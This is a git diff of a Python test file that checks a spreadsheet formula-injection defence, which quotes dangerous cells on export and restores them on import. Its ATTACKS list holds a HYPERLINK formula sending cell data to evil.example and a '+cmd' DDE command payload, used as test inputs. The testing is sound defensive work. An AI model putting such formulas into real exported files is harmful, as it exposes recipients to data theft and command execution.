@@ -19,7 +19,6 @@ from typer.testing import CliRunner
 
 from matcher.domain import Opening, Participant
 from matcher.io import export, import_programme
-from matcher.io.cells import neutralised, restored
 from matcher.store.engine import get_engine, init_db, session_scope
 from matcher.store.repositories import add_record, get_record
 from tests.matcher.store import factories
@@ -31,6 +30,8 @@ ATTACKS = ['=HYPERLINK("http://evil.example/?q="&A1,"Klicka här")', "+cmd|' /C 
 
 @pytest.mark.parametrize("text", [*ATTACKS, "'=already quoted", "''=twice"])
 def test_neutralising_is_undone_exactly_on_reading(text: str) -> None:
+    from matcher.io.cells import neutralised, restored
+
     cell = neutralised(text)
     assert cell.startswith("'")
     assert restored(cell) == text
@@ -38,6 +39,8 @@ def test_neutralising_is_undone_exactly_on_reading(text: str) -> None:
 
 @pytest.mark.parametrize("text", ["Bagare", "'s-Hertogenbosch", "", "1990", "55.6", "a=b"])
 def test_harmless_text_is_left_as_it_is(text: str) -> None:
+    from matcher.io.cells import neutralised, restored
+
     assert neutralised(text) == text == restored(text)
 
 
